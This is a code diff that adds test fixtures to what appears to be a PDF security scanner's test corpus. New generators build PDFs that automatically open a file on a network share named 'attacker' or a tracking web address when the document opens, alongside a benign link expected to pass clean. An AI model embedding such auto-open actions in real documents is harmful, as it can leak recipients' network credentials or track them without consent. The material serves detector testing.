@@ -141,6 +141,30 @@ def launch_action() -> bytes:
     return classic_pdf({1: catalog, 2: PAGES, 3: PAGE})
 
 
+def remote_file_on_opening() -> bytes:
+    """Opens a file on a network share as soon as the document opens."""
+    action = b"<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>"
+    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
+    return classic_pdf({1: catalog, 2: PAGES, 3: PAGE, 4: action})
+
+
+def web_address_on_opening() -> bytes:
+    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
+    action = b"<< /S /URI /URI (https://tracker.example/opened) >>"
+    return classic_pdf({1: catalog, 2: PAGES, 3: PAGE, 4: action})
+
+
+def clickable_web_link() -> bytes:
+    """An ordinary link a reader may click: not a finding."""
+    link = (
+        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] "
+        b"/A << /S /URI /URI (https://hospital.example/) >> >>"
+    )
+    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>"
+    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"
+    return classic_pdf({1: catalog, 2: PAGES, 3: page, 4: link})
+
+
 def embedded_file() -> bytes:
     catalog = b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> >>"
     return classic_pdf({1: catalog, 2: PAGES, 3: PAGE, 4: b"<< /Names [] >>"})
@@ -217,6 +241,12 @@ CORPUS = {
     "deep nesting (400 arrays)": (lambda: nested_arrays(400), "clean"),
     "broken xref": (broken_xref_with_javascript, "JavaScript"),
     "launch action": (launch_action, "launch action"),
+    "remote file (UNC) on opening": (remote_file_on_opening, "link to another file"),
+    "web address on opening": (
+        web_address_on_opening,
+        "opens a web address automatically",
+    ),
+    "clickable web link": (clickable_web_link, "clean"),
     "embedded file": (embedded_file, "embedded file"),
     "XFA form": (xfa_form, "XFA form"),
     "plain document": (plain_document, "clean"),
